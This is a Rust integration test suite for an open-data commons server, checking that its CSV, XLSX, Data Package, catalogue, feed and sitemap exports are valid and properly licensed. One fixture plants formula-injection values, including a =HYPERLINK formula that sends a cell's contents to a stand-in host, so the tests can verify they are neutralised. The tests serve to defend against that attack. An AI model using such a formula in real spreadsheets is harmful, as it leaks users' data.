//! The commons as open data, served by the real server on a loopback port and checked by the
//! tools others will read it with: the Data Package validator (`frictionless`), a CSV reader, a
//! zip reader.

use crate::common;

use std::io::Read;
use std::path::Path;
use std::process::Command;

use bao_contract::Licence;
use bao_server::{AppState, app};

/// The server, with the demo's fiches and two fiches of another network (one NC, one without a
/// licence), on a free loopback port: its address.
async fn serve(dir: &tempfile::TempDir) -> String {
    let db = bao_server::store::Database::open(&dir.path().join("test.sqlite3")).expect("database");
    common::import(&db, "exemples-fiches");
    let mut restricted = common::fiche("n-atelier", "Atelier", "Un atelier partagé, pas pour la revente.");
    restricted.resource.licence = Licence {
        spdx: Some("CC-BY-NC-SA-4.0".into()),
        label: "CC BY-NC-SA 4.0".into(),
        url: Some("https://creativecommons.org/licenses/by-nc-sa/4.0/".into()),
        open: false,
        ..Licence::default()
    };
    restricted.resource.authors = vec!["Zoé".into(), "Marc".into()];
    restricted.resource.updated = Some("2024-03-01".into());
    let mut unknown =
        common::fiche("n-sans-licence", "Sans licence", "Une fiche dont la source ne dit pas la licence.");
    unknown.resource.licence = Licence { label: "Licence non précisée".into(), ..Licence::default() };
    // Cells a spreadsheet would run as formulas, as a fiche may write them.
    let mut formulas =
        common::fiche("n-formules", "=HYPERLINK(\"https://fuite.example/?\"&A2,\"Ouvrir\")", "Texte.");
    formulas.resource.summary = "+1".into();
    formulas.resource.authors = vec!["-2+3".into()];
    formulas.resource.tags = vec!["@SOMME(1)".into()];
    formulas.resource.licence = unknown.resource.licence.clone();
    common::store(&db, &[restricted, unknown, formulas]);
    // A network whose fiches all have one licence.
    let network = bao_contract::NetworkRef { id: "m".into(), name: "Maison".into(), url: None };
    let mut single = common::fiche("m-jardin", "Jardin", "Un jardin partagé entre voisins du quartier.");
    single.resource.network = network.clone();
    single.source_key = "m/jardin.md".into();
    single.resource.licence = Licence {
        spdx: Some("CC-BY-4.0".into()),
        label: "CC BY 4.0".into(),
        url: Some("https://creativecommons.org/licenses/by/4.0/".into()),
        open: true,
        ..Licence::default()
    };
    let update = bao_server::store::SourceUpdate {
        source_id: "m",
        networks: &[network],
        resources: &[single],
        aliases: &[],
        sync: None,
    };
    db.store_source(&update).expect("store");
    let search = common::search_index(dir, &db);
    let router = app(AppState::new(db, search));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a free port");
    let address = listener.local_addr().expect("address");
    tokio::spawn(async move { axum::serve(listener, router).await.expect("serve") });
    format!("http://{address}")
}

async fn get(url: &str) -> (u16, String, Vec<u8>) {
    let url = url.to_owned();
    tokio::task::spawn_blocking(move || {
        let response =
            ureq::get(&url).config().http_status_as_error(false).build().call().expect("an answer");
        let status = response.status().as_u16();
        let content_type = response
            .headers()
            .get("content-type")
            .and_then(|value| value.to_str().ok())
            .unwrap_or_default()
            .to_owned();
        let mut body = Vec::new();
        response.into_body().into_reader().read_to_end(&mut body).expect("body");
        (status, content_type, body)
    })
    .await
    .expect("request")
}

/// The rows of a CSV answer, as maps from column to value.
fn rows(csv: &[u8]) -> Vec<std::collections::HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(csv);
    let headers = reader.headers().expect("a header row").clone();
    reader
        .records()
        .map(|record| {
            let record = record.expect("a valid row");
            headers.iter().map(str::to_owned).zip(record.iter().map(str::to_owned)).collect()
        })
        .collect()
}

/// What `frictionless validate` says of a descriptor (an address or a file): valid, and the rows
/// of each table.
fn frictionless(tool: &Path, descriptor: &str) -> (bool, Vec<(String, u64)>, String) {
    let output = Command::new(tool).args(["validate", "--json", descriptor]).output().expect("frictionless");
    let report: serde_json::Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|_| panic!("frictionless: {}", String::from_utf8_lossy(&output.stderr)));
    let tables = report["tasks"]
        .as_array()
        .expect("tasks")
        .iter()
        .map(|task| {
            (
                task["name"].as_str().unwrap_or_default().to_owned(),
                task["stats"]["rows"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    (report["valid"] == true, tables, report.to_string())
}

#[tokio::test(flavor = "multi_thread")]
async fn the_commons_is_a_valid_data_package_with_every_licence_said() {
    let dir = tempfile::tempdir().expect("temp dir");
    let base = serve(&dir).await;

    let (status, content_type, body) = get(&format!("{base}/datapackage.json")).await;
    assert_eq!((status, content_type.as_str()), (200, "application/json"));
    let package: serde_json::Value = serde_json::from_slice(&body).expect("JSON");
    assert_eq!(package["name"], "multibao-communs");
    assert_eq!(package["resources"][0]["path"], format!("{base}/export/resources.csv"));
    let licences = package["licenses"].to_string();
    assert!(licences.contains("CC-BY-SA-4.0") && licences.contains("CC-BY-NC-SA-4.0"), "{licences}");

    let (status, _, csv) = get(&format!("{base}/export/resources.csv")).await;
    assert_eq!(status, 200);
    let all = rows(&csv);
    let row = |id: &str| all.iter().find(|row| row["id"] == id).unwrap_or_else(|| panic!("no row {id}"));
    let restricted = row("n-atelier");
    assert_eq!(
        (restricted["licence_open"].as_str(), restricted["licence_restrictions"].as_str()),
        ("false", "NC"),
        "NC is flagged, not dropped"
    );
    assert_eq!(restricted["authors"], "Zoé ; Marc");
    assert_eq!(restricted["updated"], "2024-03-01");
    assert_eq!(restricted["page_url"], format!("{base}/r/n-atelier"));
    assert_eq!(row("n-sans-licence")["licence_restrictions"], "licence non précisée");
    let formulas = row("n-formules");
    for column in ["title", "summary", "authors", "tags"] {
        assert!(formulas[column].starts_with('\''), "{column}: {} runs in a spreadsheet", formulas[column]);
    }
    let cercle = row("exemples-cercle-de-parole");
    assert_eq!((cercle["licence_spdx"].as_str(), cercle["licence_open"].as_str()), ("CC-BY-SA-4.0", "true"));
    assert_eq!(cercle["network_name"], "Réseau des communs exemplaires (démo)");
    let (_, _, bodies) = get(&format!("{base}/export/bodies.csv")).await;
    let bodies = rows(&bodies);
    assert_eq!(bodies.len(), all.len(), "one full text per resource");
    assert!(bodies.iter().any(|row| row["body_html"].contains("<p>Un atelier partagé")));

    // Filters: open licences only; one network.
    let (_, _, open) = get(&format!("{base}/export/resources.csv?open=true")).await;
    let open = rows(&open);
    assert!(!open.is_empty() && open.iter().all(|row| row["licence_open"] == "true"));
    assert_eq!(open.len(), all.iter().filter(|row| row["licence_open"] == "true").count());
    let (_, _, network) = get(&format!("{base}/export/resources.csv?network=n")).await;
    let network: Vec<String> = rows(&network).into_iter().map(|row| row["id"].clone()).collect();
    assert_eq!(network, ["n-atelier", "n-formules", "n-sans-licence"]);
    assert!(all.iter().any(|row| row["id"] == "m-jardin"), "every network");

    // The zip: the same files, its descriptor pointing beside it.
    let (status, content_type, zip) = get(&format!("{base}/export/commons.zip")).await;
    assert_eq!((status, content_type.as_str()), (200, "application/zip"));
    let unzipped = dir.path().join("unzipped");
    zip::ZipArchive::new(std::io::Cursor::new(zip)).expect("a zip").extract(&unzipped).expect("extract");
    let inner: serde_json::Value =
        serde_json::from_slice(&std::fs::read(unzipped.join("datapackage.json")).expect("descriptor"))
            .expect("JSON");
    assert_eq!(inner["resources"][0]["path"], "resources.csv");
    assert_eq!(std::fs::read(unzipped.join("resources.csv")).expect("table"), csv);

    // Mistakes get problems, not files.
    for (query, status) in [
        ("/export/autre.csv", 404),
        ("/datapackage.json?open=oui", 400),
        ("/datapackage.json?network=inconnu", 404),
        ("/datapackage.json?format=xml", 400),
    ] {
        let (got, content_type, _) = get(&format!("{base}{query}")).await;
        assert_eq!((got, content_type.as_str()), (status, "application/problem+json"), "{query}");
    }

    // Addresses a request names cannot fill the disk: datasets kept are bounded.
    for n in 0..20 {
        let url = format!("{base}/datapackage.json");
        let host = format!("miroir-{n}.example");
        let status = tokio::task::spawn_blocking(move || {
            ureq::get(&url)
                .header("X-Forwarded-Host", &host)
                .call()
                .map(|response| response.status().as_u16())
        })
        .await
        .expect("request")
        .expect("an answer");
        assert_eq!(status, 200);
    }
    let kept = std::fs::read_dir(dir.path().join("test.sqlite3.exports")).expect("exports").count();
    assert!(kept <= 16, "{kept} datasets kept");

    // Taken into a spreadsheet, no cell of either table is a formula.
    for table in ["resources", "bodies"] {
        let url = format!("{base}/export/{table}.csv");
        if let Some(sheet) = read_with_python("spreadsheet", &url).await {
            assert!(sheet["cells"].as_u64() > Some(10), "{table}: {sheet}");
            assert_eq!(sheet["formulas"], serde_json::json!([]), "{table}");
        }
    }

    // The validator others will use: every table valid, sizes and hashes included.
    let Some(tool) = common::python_tool("frictionless") else { return };
    for descriptor in [
        format!("{base}/datapackage.json"),
        unzipped.join("datapackage.json").display().to_string(),
        format!("{base}/datapackage.json?network=n&open=true"),
    ] {
        let (valid, tables, report) = tokio::task::spawn_blocking({
            let (tool, descriptor) = (tool.clone(), descriptor.clone());
            move || frictionless(&tool, &descriptor)
        })
        .await
        .expect("frictionless");
        assert!(valid, "{descriptor}: {report}");
        assert_eq!(tables.len(), 2, "{descriptor}: {report}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn tables_open_in_a_spreadsheet_as_people_read_them() {
    let dir = tempfile::tempdir().expect("temp dir");
    let base = serve(&dir).await;
    // A CSV says its encoding and the name it is saved under.
    let response = ureq::get(&format!("{base}/export/resources.csv?network=n")).call().expect("an answer");
    assert_eq!(response.headers()["content-type"], "text/csv; charset=utf-8");
    assert_eq!(
        response.headers()["content-disposition"],
        "attachment; filename=\"multibao-n-resources.csv\""
    );
    let (status, content_type, _) = get(&format!("{base}/export/ressources.xlsx")).await;
    assert_eq!(
        (status, content_type.as_str()),
        (200, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    );
    // Opened as a spreadsheet opens it: French headings, accents, every text as written — the
    // ones a spreadsheet would run, as text — no formula anywhere.
    let Some(book) = read_with_python("workbook", &format!("{base}/export/ressources.xlsx")).await else {
        return;
    };
    assert_eq!(book["sheets"], serde_json::json!(["Ressources"]));
    assert_eq!(book["headings"][2], "Titre");
    assert_eq!(book["headings"][5], "Identifiant du réseau");
    assert_eq!(book["formulas"], serde_json::json!([]));
    assert_eq!(
        (book["frozen"].as_str(), book["filter"].as_str().map(|r| r.starts_with("A1:R"))),
        (Some("A2"), Some(true))
    );
    let rows = book["rows"].as_array().expect("rows");
    let row =
        |id: &str| rows.iter().find(|row| row["Identifiant"] == id).unwrap_or_else(|| panic!("no row {id}"));
    let formulas = row("n-formules");
    assert_eq!(formulas["Titre"], "=HYPERLINK(\"https://fuite.example/?\"&A2,\"Ouvrir\")");
    assert_eq!((formulas["Résumé"].as_str(), formulas["Auteurs"].as_str()), (Some("+1"), Some("-2+3")));
    assert_eq!(row("n-atelier")["Auteurs"], "Zoé ; Marc");
    assert_eq!(row("n-atelier")["Restrictions"], "NC");
}

/// What `tests/opendata_check.py` finds at `url` with the readers others use (`catalog`: rdflib,
/// `feed`: feedparser, `sitemap`: an XML parser); `None` when the Python tools are absent.
async fn read_with_python(what: &str, url: &str) -> Option<serde_json::Value> {
    let python = common::python_tool("python")?;
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/opendata_check.py");
    let (what, url) = (what.to_owned(), url.to_owned());
    let output =
        tokio::task::spawn_blocking(move || Command::new(python).arg(script).args([&what, &url]).output())
            .await
            .expect("python")
            .expect("python");
    assert!(output.status.success(), "opendata_check.py: {}", String::from_utf8_lossy(&output.stderr));
    Some(serde_json::from_slice(&output.stdout).expect("JSON"))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_catalogue_a_feed_and_a_sitemap_that_their_readers_accept() {
    let dir = tempfile::tempdir().expect("temp dir");
    let base = serve(&dir).await;

    let (status, content_type, robots) = get(&format!("{base}/robots.txt")).await;
    assert_eq!((status, content_type.as_str()), (200, "text/plain; charset=utf-8"));
    assert!(String::from_utf8_lossy(&robots).contains(&format!("Sitemap: {base}/sitemap.xml")));
    let (status, content_type, _) = get(&format!("{base}/feed.xml?network=inconnu")).await;
    assert_eq!((status, content_type.as_str()), (404, "application/problem+json"));
    // Harvesters and feed readers ask again and again: validators, and a 304 when nothing changed.
    for path in ["/feed.xml", "/sitemap.xml", "/catalog.jsonld"] {
        let url = format!("{base}{path}");
        let (etag, cache_control, again) = tokio::task::spawn_blocking(move || {
            let first = ureq::get(&url).call().expect("an answer");
            let header = |name: &str| {
                first.headers().get(name).and_then(|value| value.to_str().ok()).unwrap_or_default().to_owned()
            };
            let (etag, cache_control) = (header("etag"), header("cache-control"));
            let again = ureq::get(&url)
                .header("if-none-match", &etag)
                .config()
                .http_status_as_error(false)
                .build()
                .call()
                .expect("an answer");
            (etag, cache_control, again.status().as_u16())
        })
        .await
        .expect("requests");
        assert!(etag.len() > 10 && cache_control.starts_with("public"), "{path}: {etag} {cache_control}");
        assert_eq!(again, 304, "{path}");
    }

    let Some(catalog) = read_with_python("catalog", &format!("{base}/catalog.jsonld")).await else { return };
    assert_eq!(catalog["catalogs"], 1, "{catalog}");
    let datasets = catalog["datasets"].as_array().expect("datasets");
    let identifiers: Vec<&str> =
        datasets.iter().map(|dataset| dataset["identifier"].as_str().unwrap_or_default()).collect();
    assert_eq!(
        identifiers,
        ["multibao-communs", "multibao-exemples", "multibao-m", "multibao-n"],
        "the commons, then each network"
    );
    assert_eq!(catalog["listed"], 4, "the catalogue lists each dataset");
    for dataset in datasets {
        // What the harvester skips a dataset without, or a distribution without.
        assert!(
            dataset["title"].as_str().is_some_and(|title| title.starts_with("Communs multiBàO")),
            "{dataset}"
        );
        assert!(dataset["modified"].as_str().is_some_and(|date| date.len() == 10), "{dataset}");
        assert!(
            !dataset["license"].as_str().unwrap_or_default().is_empty()
                || !dataset["rights"].as_str().unwrap_or_default().is_empty(),
            "{dataset}"
        );
        for distribution in dataset["distributions"].as_array().expect("distributions") {
            let url = distribution["download"].as_str().expect("a download address");
            let (status, content_type, _) = get(url).await;
            // The media type the catalogue says is the answer's (`; charset=utf-8` aside).
            let essence = content_type.split(';').next().unwrap_or_default();
            assert_eq!((status, essence), (200, distribution["media_type"].as_str().unwrap()), "{url}");
        }
    }
    assert_eq!(
        datasets[2]["license"], "https://creativecommons.org/licenses/by/4.0/",
        "one licence: the dataset's"
    );
    let rights = datasets[3]["rights"].as_str().unwrap_or_default();
    assert!(
        rights.contains("CC BY-NC-SA 4.0") && rights.contains("Licence non précisée"),
        "several: each its own"
    );

    let feed = read_with_python("feed", &format!("{base}/feed.xml")).await.expect("python");
    assert_eq!((feed["bozo"].as_bool(), feed["version"].as_str()), (Some(false), Some("atom10")), "{feed}");
    let entries = feed["entries"].as_array().expect("entries");
    let atelier = entries.iter().find(|entry| entry["title"] == "Atelier").expect("the NC fiche");
    assert_eq!(atelier["link"], format!("{base}/r/n-atelier"));
    assert_eq!(atelier["authors"], serde_json::json!(["Zoé", "Marc"]));
    assert_eq!(atelier["rights"], "CC BY-NC-SA 4.0");
    let network_feed = read_with_python("feed", &format!("{base}/feed.xml?network=n")).await.expect("python");
    assert_eq!(network_feed["entries"].as_array().map(Vec::len), Some(3), "{network_feed}");

    let sitemap = read_with_python("sitemap", &format!("{base}/sitemap.xml")).await.expect("python");
    assert_eq!(sitemap["root"], "urlset");
    let urls = sitemap["urls"].as_array().expect("urls");
    assert_eq!(urls[0]["loc"], format!("{base}/"));
    assert!(urls.iter().any(|url| url["loc"] == format!("{base}/r/n-atelier")
        && url["lastmod"].as_str().is_some_and(|date| date.len() == 10)));
    let (_, _, csv) = get(&format!("{base}/export/resources.csv")).await;
    assert_eq!(urls.len(), 1 + rows(&csv).len(), "the home page and every resource");
}
